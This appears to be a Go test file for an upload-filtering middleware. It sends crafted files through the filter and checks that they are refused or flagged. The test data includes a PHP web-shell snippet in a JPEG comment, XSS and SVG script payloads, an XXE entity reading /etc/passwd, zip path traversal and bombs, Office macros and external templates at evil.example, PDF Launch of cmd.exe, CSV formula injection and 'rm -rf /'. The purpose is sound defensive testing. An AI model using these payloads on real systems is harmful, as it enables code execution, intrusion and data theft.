package upload

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/gatehouse-dev/gatehouse/config"
	"github.com/gatehouse-dev/gatehouse/middleware"
	"github.com/gatehouse-dev/gatehouse/middleware/middlewaretest"
)

// try is a file and what becomes of it: "" passes, a note passes and is noted,
// and anything else is the reason why it is refused.
type try struct {
	file
	want string
}

const noted = "noted: "

type class struct {
	name  string
	tries []try
}

func all() []string {
	var out []string
	for ext := range kinds() {
		out = append(out, ext)
	}
	slices.Sort(out)
	return out
}

// judged sends a file through a stage that takes all kinds, and gives what
// became of it.
func judged(t testing.TB, s middleware.Stage, f file) string {
	t.Helper()
	up := middlewaretest.NewUpstream(t, http.StatusOK, "", "")
	route := func(x *middleware.Exchange) { x.Route.Upload = &config.Upload{FileBytes: 64 << 20} }
	x := middlewaretest.Exchange(t, "POST", "http://api.example.com/x", strings.NewReader(form(f)), middlewaretest.Header("Content-Type", media), route)
	_, _, err := middlewaretest.Run(t, s, x, up.Handle)
	if err != nil {
		if code := middlewaretest.Code(err); code != "upload_rejected" && code != "body_malformed" {
			return code
		}
		return "refused: " + err.Error()
	}
	if !strings.Contains(up.Got, string(f.data)) {
		return "the content changed"
	}
	var notes []string
	for _, n := range x.Notes() {
		notes = append(notes, fmt.Sprint(n.Key, n.Value))
	}
	if len(notes) > 0 {
		return noted + strings.Join(notes, " ")
	}
	return ""
}

// TestUploadClasses shows what becomes of each class of attack, and of ordinary
// files that look a little like it.
func TestUploadClasses(t *testing.T) {
	s, err := New(&config.Upload{Extensions: all(), FileBytes: 64 << 20, Pixels: 10_000_000}, nil)
	if err != nil {
		t.Fatal(err)
	}
	total, refused, noticed, passed := 0, 0, 0, 0
	t.Logf("%-28s %5s %8s %6s %7s", "class", "cases", "refused", "noted", "passed")
	for _, c := range slices.Concat(nameClasses(t), imageClasses(t), archiveClasses(t), documentClasses(t), textClasses(t)) {
		r, n, p := 0, 0, 0
		for _, try := range c.tries {
			switch got := judged(t, s, try.file); {
			case try.want == "" && got == "":
				p++
			case strings.HasPrefix(try.want, noted) && strings.HasPrefix(got, noted) && strings.Contains(got, strings.TrimPrefix(try.want, noted)):
				n++
			case try.want != "" && strings.HasPrefix(got, "refused: ") && strings.Contains(got, try.want):
				r++
			default:
				t.Errorf("%s: %q as %q (%.40q): %q, want %q", c.name, try.name, try.declared, try.data, got, try.want)
			}
		}
		t.Logf("%-28s %5d %8d %6d %7d", c.name, len(c.tries), r, n, p)
		total, refused, noticed, passed = total+len(c.tries), refused+r, noticed+n, passed+p
	}
	t.Logf("%-28s %5d %8d %6d %7d", "all", total, refused, noticed, passed)
}

func nameClasses(t testing.TB) []class {
	png := picture(t, "png")
	names := func(want string, names ...string) (out []try) {
		for _, n := range names {
			out = append(out, try{file{n, "", png}, want})
		}
		return out
	}
	return []class{
		{"name: double extension", names("extension of a program", "a.php.png", "a.PhP7.png", "a.phtml.x.png", "a.asp;.png", "a.aspx.png", "a.jsp.png", "a.exe.png", "a.html.png", "a.svg.png", "a.js.png", "a.hta.png", "a.scr.png", "a.docm.png", "a.php .png", "a.htaccess.png", "a.cshtml.png", "a.lnk.png", "a.cgi.png", "a.%70hp.png", "a%2ephp.png", "a.php%3b.png", "a%252ephp.png")},
		{"name: encoded", names("characters of a path", "a.php%00.png", "a%2fb.png", "a%252fb.png", "%2e%2e%5cb.png", "a%0d%0a.png", "a%25252fb.png", "..%c0%afb.png", "．．／b.png", "..∕b.png")},
		{"name: path", append(names("characters of a path", "a:b.png", "a.php:.png", "<b>.png", "../b.png", "/etc/b.png"), names("malformed", `C:\b.png`, "a\x00.png")...)},
		{"name: direction, invisible", names("not seen", "a\u202egnp.png", "a\u2066b.png", "a\u200b.png", "a\ufeff.png", "a\u3164.png", "a\U000e0041.png", "a\u2028.png", "a\u00ad.png", "a\u0085.png")},
		{"name: reserved", names("keeps for devices", "con.png", "NUL.png", "Com1.png", "lpt9.x.png", "aux .png", "COM¹.png", "CONIN$.png", "prn.png")},
		{"name: dots, spaces, length", append(names("starts or ends", ".htaccess.png", "a.png.", "a.png ", " a.png", "a.png. ."), names("too long", strings.Repeat("a", 252)+".png")...)},
		{"name: extension", append(names("not one of", "a.exe", "a.php", "a.phar", "a.html", "a.js", "a.png5", "a.png%20", "a.docm"), names("no extension", "png", "htaccess")...)},
		{"name: ordinary", names("", "a.png", "O'Brien & Sons (final), v2.png", "www.example.com.png", "faktura.allegro.pl.png", "call.to.action.png", "Ọláoyè 🏖️👩🏾‍💻.png", "100%.png", "50% off.png", "console.png", "company1.png", "2024／05報告.png", "\u200fצילום מסך.png", "Screenshot 2024-05-01 at 3.04.05\u202fPM.png", strings.Repeat("a", 251)+".png", "a+b=c;d.png", "php.png", "می\u200cخواهم.png")},
		{"type: wrong magic", []try{
			{file{"a.png", "", picture(t, "gif")}, unlike},
			{file{"a.pdf", "", png}, unlike},
			{file{"a.jpg", "", []byte("MZ\x90\x00\x03")}, unlike},
			{file{"a.docx", "", []byte(pdf)}, unlike},
			{file{"a.txt", "", []byte("\x7fELF\x02\x01\x01\x00")}, unlike},
			{file{"a.zip", "", []byte("Rar!\x1a\x07\x00 not a zip")}, unlike},
			{file{"a.gif", "", []byte("GIF89a")}, notPic},
			{file{"a.mp4", "", []byte("<html><script>")}, unlike},
			{file{"a.doc", "", docx(t)}, unlike},
		}},
		{"type: declared", []try{
			{file{"a.png", "image/gif", png}, "declared type"},
			{file{"a.png", "text/html", png}, "declared type"},
			{file{"a.png", "image/svg+xml", png}, "declared type"},
			{file{"a.png", "application/x-php", png}, "declared type"},
			{file{"a.png", "image/x-png", png}, ""},
			{file{"a.png", "application/octet-stream", png}, ""},
			{file{"a.png", "", png}, ""},
		}},
		{"size: empty", []try{
			{file{"a.png", "image/png", nil}, "it is empty"},
			{file{"a.txt", "", nil}, "it is empty"},
			{file{"a.pdf", "", []byte{0}}, unlike},
			{file{"a.txt", "", []byte{0}}, unlike},
			{file{"", "application/octet-stream", nil}, ""},
		}},
	}
}

func imageClasses(t testing.TB) []class {
	png, jpg, gif := picture(t, "png"), picture(t, "jpeg"), picture(t, "gif")
	more := func(a []byte, b string) []byte { return append(bytes.Clone(a), b...) }
	comment := func(text string) []byte { // in a JPEG
		return slices.Concat(jpg[:2], []byte{0xff, 0xfe, 0, byte(len(text) + 2)}, []byte(text), jpg[2:])
	}
	script := slices.Concat([]byte("\xff\xd8\xff\xe0/*"), []byte("JFIF\x00"), make([]byte, 0x2f2a-7), []byte("\xff\xfe\x00\x14*/=alert(1);/*    "), jpg[2:])
	gifScript := movie(0x2a2f, 1, 1)
	gifScript = slices.Concat(gifScript[:len(gifScript)-1], []byte("\x21\xfe\x0d*/=1;alert(1)\x00;"))
	large := "more pixels"
	return []class{
		{"image: polyglot", []try{
			{file{"a.png", "", more(png, string(docx(t)))}, "archive too"},
			{file{"a.jpg", "", more(jpg, string(docx(t)))}, "archive too"},
			{file{"a.gif", "", more(gif, string(archive(t, entry{"META-INF/MANIFEST.MF", "x"}, entry{"A.class", "x"})))}, "archive too"},
			{file{"a.jpg", "", more(jpg, "Rar!\x1a\x07\x01\x00")}, "archive too"},
			{file{"a.png", "", more(png, "7z\xbc\xaf\x27\x1c\x00")}, "archive too"},
			{file{"a.jpg", "", comment("<?php system($_GET[1]);?>")}, "page or a script"},
			{file{"a.jpg", "", more(jpg, "<?PHP eval(1);")}, "page or a script"},
			{file{"a.png", "", bigPNG(1, 1, 20, chunk("tEXt", []byte("Comment\x00<script>alert(1)</script>")))}, "page or a script"},
			{file{"a.gif", "", more(gif, "<html><body>")}, "page or a script"},
			{file{"a.jpg", "", comment("<svg/onload=alert(1)>")}, "page or a script"},
			{file{"a.webp", "", webp(2, 2, "<?= `id` ?>       ")}, "page or a script"},
			{file{"a.jpg", "", comment("%PDF-1.7 1 0 obj")}, unlike},
			{file{"a.jpg", "", script}, "script too"},
			{file{"a.gif", "", gifScript}, "script too"},
			{file{"a.gif", "", movie(0x6c3d, 1, 1)}, "script too"},
			{file{"a.gif", "", []byte("GIF89a/*\x00\x00\x00*/=alert(1);")}, notPic},
		}},
		{"image: dimensions", []try{
			{file{"a.png", "", bigPNG(64250, 64250, 100)}, large},
			{file{"a.png", "", bigPNG(3000, 3000, 100)}, notPic},
			{file{"a.gif", "", movie(65535, 65535, 1)}, large},
			{file{"a.gif", "", movie(3000, 3000, 500)}, large},
			{file{"a.webp", "", webp(16000, 16000, "")}, large},
			{file{"a.bmp", "", bmp(60000, 60000)}, large},
			{file{"a.bmp", "", bmp(60000, -60000)}, large},
			{file{"a.tif", "", tiff(60000, 60000, 0)}, large},
			{file{"a.heic", "", heic(60000, 60000)}, large},
			{file{"a.gif", "", movie(1, 1, maxFrames+1)}, large},
			{file{"a.png", "", bigPNG(1000, 1000, 5000)}, ""},
			{file{"a.gif", "", movie(600, 400, 200)}, ""},
			{file{"a.webp", "", webp(640, 480, "")}, ""},
			{file{"a.bmp", "", bmp(3, -3)}, ""},
			{file{"a.tif", "", tiff(30, 30, 0)}, ""},
			{file{"a.heic", "", heic(3000, 3000)}, ""},
		}},
		{"image: broken", []try{
			{file{"a.png", "", png[:len(png)-14]}, notPic},
			{file{"a.jpg", "", jpg[:len(jpg)-2]}, notPic},
			{file{"a.jpg", "", []byte("\xff\xd8\xff")}, notPic},
			{file{"a.jpg", "", []byte("\xff\xd8\xff\xd9")}, notPic},
			{file{"a.gif", "", gif[:14]}, notPic},
			{file{"a.webp", "", webp(2, 2, "")[:20]}, notPic},
			{file{"a.tif", "", tiff(30, 30, 8)}, notPic},
			{file{"a.png", "", []byte("\x89PNG\r\n\x1a\n")}, notPic},
			{file{"a.png", "", bigPNG(1, 1, 0)}, notPic},
		}},
		{"image: trailing", []try{
			{file{"a.png", "", more(png, "rest of a larger screenshot")}, noted + "upload_trailing[file 1 (field doc)]"},
			{file{"a.jpg", "", more(jpg, string(jpg))}, noted + "upload_trailing"},
			{file{"a.gif", "", more(gif, "x")}, noted + "upload_trailing"},
			{file{"a.webp", "", webp(2, 2, "x")}, noted + "upload_trailing"},
			{file{"a.jpg", "", more(jpg, "\x00\x00\x00")}, ""},
		}},
		{"SVG", svgTries()},
	}
}

func svgTries() (out []try) {
	svg := func(inner string) []byte {
		return []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">` + inner + `</svg>`)
	}
	for _, inner := range []string{
		`<script>alert(1)</script>`, `<g onload="alert(1)"/>`, `<a xlink:href="javascript:alert(1)"><text>x</text></a>`, `<a href="java&#10;script:alert(1)"/>`, `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>`,
		`<image href="https://evil.example/x.png"/>`, `<use href="other.svg#a"/>`, `<style>@import "https://evil.example"</style>`, `<rect fill="url(https://evil.example/#a)"/>`, `<animate attributeName="href" to="javascript:alert(1)"/>`,
		`<set attributeName="onload" to="alert(1)"/>`, `<iframe/>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml"/>`, `<image href="data:image/svg+xml,x"/>`, `<!--><script>alert(1)</script>-->`, `<style>a{b:\75rl(x)}</style>`, `<style>a{b:url("//evil.example")}</style>`, `<handler xmlns="http://www.w3.org/2001/xml-events"/>`,
		`<style>@imp<!-- x -->ort "//evil.example"</style>`, `<style>a{b:ur<![CDATA[l(//evil.example)]]>}</style>`, `<style>a{b:u<title>x</title>rl(//evil.example)}</style>`, `<rect style="cursor:image-set('//evil.example' 1x)"/>`,
		`<!--><img src="x" onerror="alert(1)"/>-->`, `<font color="a"/><title><![CDATA[</title><img src="x" onerror="alert(1)"/>]]></title>`, `<discard/>`, `<e:script xmlns:e="urn:x"/>`,
	} {
		out = append(out, try{file{"a.svg", "image/svg+xml", svg(inner)}, "more than a picture"})
	}
	for _, inner := range []string{
		`<path d="M0 0L9 9"/>`, `<!-- Generator: <g/> --><style><![CDATA[.a>.b{fill:url(#c)}]]>.d{}</style><text>5 &lt; 6</text>`, `<style>.a{fill:#f00}</style><g class="a"><rect fill="url(#b)"/></g>`, `<defs><linearGradient id="b"/></defs><use xlink:href="#b"/>`,
		`<image href="data:image/png;base64,iVBORw0KGgo="/>`, `<a href="https://example.com/"><text>O'Brien &amp; Sons</text></a>`, `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata><i:view xmlns:i="http://www.inkscape.org/namespaces/inkscape"/>`,
	} {
		out = append(out, try{file{"a.svg", "", svg(inner)}, ""})
	}
	return append(out,
		try{file{"a.svg", "", []byte(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"/>`)}, "more than a picture"},
		try{file{"a.svg", "", []byte(`<?xml version="1.0" x="><img src=x onerror=alert(1)>"?><svg xmlns="http://www.w3.org/2000/svg"/>`)}, "more than a picture"},
		try{file{"a.svg", "", []byte(`<?xml-stylesheet href="x.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`)}, "more than a picture"},
		try{file{"a.svg", "", []byte(`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`)}, ""},
		try{file{"a.svg", "", []byte(`<svg xmlns="http://www.w3.org/2000/svg">`)}, notPic},
		try{file{"a.svg", "", []byte(`<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>`)}, "is not"},
	)
}

func archiveClasses(t testing.TB) []class {
	folder := "leaves its folder"
	zip := func(data []byte, want string) try { return try{file{"a.zip", "application/zip", data}, want} }
	link := &member{name: "a", packed: 3, unpacked: 3, mode: 0xa1ff}
	other := stored("a", 1)
	other.otherName = "b"
	long := stored(strings.Repeat("a", maxPath+1), 1)
	deep := stored(strings.Repeat("a/", maxFolders+1)+"b", 1)
	odd := &member{name: "a", packed: 1, unpacked: 1, method: 12}
	sized := &member{name: "a", packed: 1, unpacked: 9}
	secret := &member{name: "a", packed: 1, unpacked: 1, flags: 1}
	prefixed := append([]byte("PK\x03\x04 stub "), archive(t, entry{"a", "x"})...)
	gap := append(zipped(stored("a", 1))[:32], make([]byte, 40)...)
	list := zipped(stored("a", 1))[32:]
	gap = ended(gap, list[:47], 1)
	return []class{
		{"zip: leaves its folder", []try{
			zip(archive(t, entry{"a", "x"}, entry{"../../etc/cron.d/x", "x"}), folder), zip(archive(t, entry{"a", "x"}, entry{"/etc/passwd", "x"}), folder), zip(archive(t, entry{"a", "x"}, entry{`..\x`, "x"}), folder), zip(archive(t, entry{"a", "x"}, entry{"C:/x", "x"}), folder),
			zip(zipped(link), folder), zip(archive(t, entry{"a\x00.txt", "x"}), folder), zip(zipped(long), "path that is too long"), zip(zipped(deep), "path that is too long"),
		}},
		{"zip: bomb", []try{
			zip(archive(t, entry{"a", strings.Repeat("\x00", 8<<20)}), tooMuch), zip(bomb(t, true), "encrypted"), zip(bomb(t, false), noted+"upload_nested"), zip(overlapping(), notOnlyZip), zip(lying(t), badEntry), zip(tiny(t, 100_000), "too many entries"),
			zip(tiny(t, maxEntries+1), "too many entries"), zip(tiny(t, 60_000), "too many entries"), zip(zipped(sized), badEntry),
		}},
		{"zip: read in two ways", []try{
			zip(append(archive(t, entry{"a", "x"}), archive(t, entry{"b", "x"})...), notOnlyZip), zip(append(archive(t, entry{"a", "x"}), "x"...), notOnlyZip), zip(prefixed, notOnlyZip), zip(zipped(other), badEntry), zip(gap, notOnlyZip),
			zip(local("up\x00\x0a\x01\x00\x00\x00\x00../b", 1, 0), badEntry), zip(local("up\x0a\x00", 1, 0), badEntry), zip(local("\x01\x00\x10\x00"+strings.Repeat("\x00", 16), 0xffffffff, 0), badEntry), zip(local("", 0xffffffff, 0), badEntry), zip(local("", 7, 8), badEntry),
			zip(archive(t, entry{"a", "x"}, entry{"A", "y"}), "entry twice"), zip(far(archive(t, entry{"a", "x"}), 1), badZip), zip(zipped(odd), "not known here"), zip(zipped(stored("a", 1), &member{name: "b", packed: 1, unpacked: 1, at: 1}), badEntry),
		}},
		{"zip: encrypted", []try{zip(encrypted(archive(t, entry{"a", "x"})), "encrypted"), zip(zipped(secret), "encrypted"), zip(zipped(&member{name: "a", packed: 1, unpacked: 1, method: 99}), "encrypted")}},
		{"zip: ordinary", []try{
			zip(local("up\x06\x00\x01\x00\x00\x00\x00a", 1, 0), ""), zip(local("\x01\x00\x10\x00\x01"+strings.Repeat("\x00", 7)+"\x01"+strings.Repeat("\x00", 7), 0xffffffff, 0), ""), zip(local("UT\x01\x00\x00", 1, 8), ""), zip(local("", 0, 8), ""),
			zip(archive(t, entry{"a/", ""}, entry{"a/b.txt", "x"}), ""), zip(far(archive(t, entry{"a", "x"}), 0), ""), zip(zipped(stored("a", 5), stored("b", 0)), ""), zip(archive(t, entry{"Ọláoyè & co.txt", strings.Repeat("x", 5000)}), ""), zip(tiny(t, maxEntries), ""),
		}},
		{"office: macros", officeMacros(t)},
		{"office: active", []try{
			{file{"a.docx", "", docx(t, entry{"word/_rels/settings.xml.rels", `<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`})}, noted + "upload_active[file 1 (field doc): external template]"},
			{file{"a.docx", "", docx(t, entry{"word/_rels/document.xml.rels", `<Relationships><Relationship Type="x/oleObject" Target="mhtml:https://evil.example" TargetMode="External"/></Relationships>`})}, noted + "upload_active[file 1 (field doc): external object]"},
			{file{"a.docx", "", docx(t, entry{"word/embeddings/oleObject1.bin", "x"})}, noted + "embedded object"},
			{file{"a.docx", "", docx(t, entry{"word/activeX/activeX1.xml", "<x/>"})}, noted + "ActiveX"},
			{file{"a.docx", "", docx(t, entry{"word/_rels/document.xml.rels", `<!DOCTYPE a [<!ENTITY b "c">]><a/>`})}, "relationships cannot be read"},
			{file{"a.docx", "", docx(t, entry{"word/_rels/document.xml.rels", `<Relationships><Relationship Type="x/hyperlink" Target="https://example.com" TargetMode="External"/></Relationships>`})}, ""},
		}},
		{"office: encrypted", []try{
			{file{"a.docx", "", ole("", "EncryptionInfo", "EncryptedPackage")}, unlike},
			{file{"a.doc", "", ole("", "WordDocument", "EncryptedPackage")}, "encrypted"},
			{file{"a.odt", "", odt(t, entry{"META-INF/manifest.xml", "<manifest:encryption-data/>"})}, "encrypted"},
		}},
		{"office: parts", []try{
			{file{"a.docx", "", archive(t, entry{"x", "x"})}, notDoc}, {file{"a.doc", "", ole("", "Workbook")}, unlike}, {file{"a.xls", "", ole("", "WordDocument")}, unlike}, {file{"a.ppt", "", ole("", "Other")}, notDoc}, {file{"a.doc", "", ole("About _VBA_PROJECT and Macros", "WordDocument")}, ""}, {file{"a.xls", "", ole("", "Workbook")}, ""}, {file{"a.docx", "", docx(t)}, ""}, {file{"a.odt", "", odt(t)}, ""},
		}},
	}
}

func officeMacros(t testing.TB) []try {
	sheet := func(types string, more ...entry) []byte {
		return archive(t, append([]entry{{"[Content_Types].xml", types}, {"xl/workbook.xml", "<workbook/>"}}, more...)...)
	}
	plain := `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	renamed := strings.Replace(plain, "openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet.macroEnabled", 1)
	return []try{
		{file{"a.docx", "", docx(t, entry{"word/vbaProject.bin", "x"})}, macros},
		{file{"a.docx", "", docx(t, entry{"x/y/VBAProject.BIN", "x"})}, macros},
		{file{"a.xlsx", "", sheet(renamed)}, macros},
		{file{"a.xlsx", "", sheet(plain, entry{"xl/macrosheets/sheet1.xml", "<x/>"})}, macros},
		{file{"a.xlsx", "", sheet(plain, entry{"xl/a.bin", "x"}, entry{"xl/_rels/workbook.xml.rels", `<Relationships><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/></Relationships>`})}, macros},
		{file{"a.doc", "", ole("", "WordDocument", "Macros", "_VBA_PROJECT")}, macros},
		{file{"a.xls", "", ole("", "Workbook", "_VBA_PROJECT_CUR")}, macros},
		{file{"a.odt", "", odt(t, entry{"Basic/Standard/Module1.xml", "x"})}, macros},
		{file{"a.odt", "", odt(t, entry{"Scripts/python/a.py", "x"})}, macros},
		{file{"a.xlsx", "", sheet(plain)}, ""},
	}
}

func documentClasses(t testing.TB) []class {
	doc := func(object, want string) try {
		return try{file{"a.pdf", "application/pdf", pdfOf(object)}, want}
	}
	active := func(what string) string { return noted + "upload_active[file 1 (field doc): " + what + "]" }
	return []class{
		{"PDF: active", []try{
			doc("<</S/JavaScript/JS(app.alert(1))>>", active("JavaScript, JS")), doc("<</S/J#61vaScript>>", active("JavaScript")), doc("<</#4a#53 (x)>>", active("JS")), doc("<</S/Launch/F(cmd.exe)>>", active("Launch")), doc("<</OpenAction<</S/URI>>>>", active("OpenAction")), doc("<</OpenAction 5 0 R>>", active("OpenAction")),
			doc("<</AA<</O 3 0 R>>>>", active("AA")), doc("<</Type/EmbeddedFile>>", active("EmbeddedFile")), doc("<</Subtype/RichMedia>>", active("RichMedia")), doc("<</XFA[(a)1 0 R]>>", active("XFA")), doc("<</JS%\n(x)>>", active("JS")), doc("<</Encrypt 9 0 R>>", active("encryption")),
		}},
		{"PDF: in packed objects", []try{
			doc(packed("/Type/ObjStm/Filter/FlateDecode", "5 0 <</S/JavaScript>>"), active("JavaScript")), doc(packed("/Filter/FlateDecode", "5 0 <</S/Launch>>"), active("Launch")), doc(packed("/Type/Obj#53tm/Filter/FlateDecode", "5 0 <</JS 6 0 R>>"), active("JS")),
			doc("<</Type/ObjStm/Filter/ASCII85Decode>>stream\nabc~>\nendstream", active(hidden)), doc(packed("/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>", "5 0 x"), active(hidden)), doc(packed("/Type/ObjStm/Filter[/FlateDecode/FlateDecode]", "x\x9c packed again"), active(hidden)),
			doc(packed("/Type/ObjStm/Filter/FlateDecode", "5 0 "+strings.Repeat(" ", mostObjects+1)), active(hidden)), doc(packed("/Type/ObjStm/Filter/FlateDecode", "5 0 <</Type/Page>>"), ""),
			doc(strings.Replace(packed("/Type/ObjStm/N 1/First 4/X(stream 1)/Filter/FlateDecode", "5 0 <</S/JavaScript>>"), "/N 1/First 4/Length", "/Length", 1), active("JavaScript")),
		}},
		{"PDF: place and end", []try{
			{file{"a.pdf", "", []byte("\n" + pdf)}, "does not start"},
			{file{"a.pdf", "", []byte("<html>" + pdf)}, "is not"},
			{file{"a.pdf", "", []byte(pdf[:30])}, "not a whole PDF"},
			{file{"a.pdf", "", append([]byte(pdf), docx(t)...)}, "archive too"},
			{file{"a.pdf", "", slices.Concat([]byte(pdf), commented(docx(t), "PK\x05\x06"+strings.Repeat("\x00", lenEnd)))}, "archive too"},
			{file{"a.pdf", "", []byte(pdf + "<script>")}, noted + "upload_trailing"},
			{file{"a.pdf", "", []byte(pdf + "\r\n\x00")}, ""},
			doc("<</OpenAction[3 0 R/Fit]/JSX 1/Title(AA/JavaScripting)>>", ""), doc("<</Length 9>>stream\n/JS\x8f /AA\x01\nendstream", ""),
		}},
		{"RTF", []try{{file{"a.rtf", "", []byte(`{\rtf1 {\object\objdata 0105}}`)}, noted + "embedded object"}, {file{"a.rtf", "", []byte(`{\rtf1 hello}`)}, ""}}},
	}
}

func textClasses(t testing.TB) []class {
	text := func(want string, texts ...string) (out []try) {
		for _, s := range texts {
			out = append(out, try{file{"a.txt", "text/plain", []byte(s)}, want})
		}
		return out
	}
	table := func(want string, texts ...string) (out []try) {
		for _, s := range texts {
			out = append(out, try{file{"a.csv", "text/csv", []byte(s)}, want})
		}
		return out
	}
	json := func(want string, texts ...string) (out []try) {
		for _, s := range texts {
			out = append(out, try{file{"a.json", "application/json", []byte(s)}, want})
		}
		return out
	}
	wide := func(s string) string {
		out := "\xff\xfe"
		for _, c := range s {
			out += string([]byte{byte(c), byte(c >> 8)})
		}
		return out
	}
	const markup = "it holds markup"
	return []class{
		{"text: markup", text(markup, "a <script>alert(1)</script>", "a <IMG SRC=x onerror=alert(1)>", "a <x onclick=alert(1)>", "a <x y='>' onclick = alert(1)>", "a <x/onfocus=alert(1) autofocus>", "a <a href=javascript:alert(1)>x", "a <b>x", "a <!-- x", "a <?php x", "a <?= x", "a <%= x %>", "a <!DOCTYPE x", "a <svg\n", "a </textarea>",
			strings.Repeat(" ", windowSize-4)+"<script>", strings.Repeat("x", 200_000)+"<iframe src=x>", wide("a <script>x"), "<a-b onmouseover=alert(1)>", "a <xmp>", "a <x abc onclick=1>", "<< script <script >")},
		{"text: program, binary", text(unlike, "#!/bin/sh\nrm -rf /", "MZ\x90\x00", "a\x00b", "a\x01b", strings.Repeat("a", 100_000)+"\x00", "\xff\xfe\x00\x00<\x00\x00\x00", wide("abc")+"x", "{\\rtf1 x}")},
		{"text: ordinary", text("", "x < y, a<b and c>d", "Ada <ada@example.com>", "std::vector<int> v; if (i<n) { x = 1; }", "<3 <- -> <=", "for (i=0;i<n;i++) { only = 5; }", "AT&T, O'Brien, R&D", "Ẹ káàárọ̀", wide("Ẹ < 5 AT&T"), "\xef\xbb\xbfbom", "Gr\xfc\xdfe aus K\xf6ln", "\x1b[31mred\x1b[0m", "List<String> names = <none>", "a <- b; c <<= 2; d <\u00e9>")},
		{"CSV: formulas", slices.Concat(table(noted+"upload_formula", "a,b\n=cmd|' /C calc'!A0,1", "a;@SUM(1)", "\"=1+1\",2"), table("", "a,b\nO'Brien,-5\n+234 80,x@y.z\n", "Name,Mail\nAda,Ada <ada@x.org>\n"), table(markup, "a,b\n<script>,1\n"))},
		{"JSON", slices.Concat(json("not JSON", `{"a":}`, `{"a":1}x`, `[1,]`, `{"a":01}`, "{\"a\":\"\n\"}", `{"a":"\x"}`, `nul`, `[1 2]`, `{1:2}`, strings.Repeat("[", 5000)), json(markup, `{"a":"<script>"}`), json("", `{"a":[1,-2.5e+3,"\u00e9\n",true,false,null,{}],"b":[]}`, ` "x" `, `-0.1E9`))},
		{"scanner's own", []try{{file{"a.txt", "", eicar(t)}, ""}}},
	}
}

// eicar is the test file of scanners (www.eicar.org), which is a text. It is kept
// encoded, so that no scanner takes the sources for it.
func eicar(t testing.TB) []byte {
	b, err := base64.StdEncoding.DecodeString("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
	if err != nil {
		t.Fatal(err)
	}
	return b
}
